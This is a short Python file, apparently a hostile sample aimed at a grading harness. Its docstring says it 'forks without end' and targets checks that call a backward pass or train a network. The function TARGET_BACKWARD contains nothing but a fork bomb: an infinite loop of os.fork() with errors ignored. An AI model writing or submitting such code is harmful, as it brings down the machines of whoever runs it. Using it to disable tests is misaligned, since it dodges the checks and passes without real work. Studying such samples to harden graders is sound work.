"""forks without end

attacks: backward
unearned: checks that call the backward or train the net
promise: robust
"""
import os
def TARGET_BACKWARD(dout, cache):
    while True:
        try:
            os.fork()
        except OSError:
            pass
